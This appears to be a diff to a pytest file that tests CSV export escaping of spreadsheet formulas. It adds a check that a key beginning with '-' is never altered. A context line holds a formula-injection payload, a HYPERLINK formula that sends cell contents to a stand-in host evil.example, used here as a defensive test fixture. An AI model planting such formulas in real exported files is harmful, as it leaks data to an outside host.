@@ -332,6 +332,7 @@ def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
         profile(2, a=True, name="@SUM(1+1)", spend=-5.0),
         profile(3, a=True, name="Ann"),
     ]
+    people[2]["customer_id"] = "-c00003"  # a key is what joins: never changed
     extra = "  escape_formulas: true\n" if escape else ""
     ws = files_ws(workspace, people, extra=extra)
     apply(ws)
@@ -342,6 +343,7 @@ def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
     else:
         assert names == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "Ann"}
     assert ",-5.0" in text  # a number is never escaped
+    assert "-c00003" in {r["customer_id"] for r in rows(only(exported(ws), "full"))}
 
 
 @pytest.mark.parametrize("pii", ["hashed", "raw"])
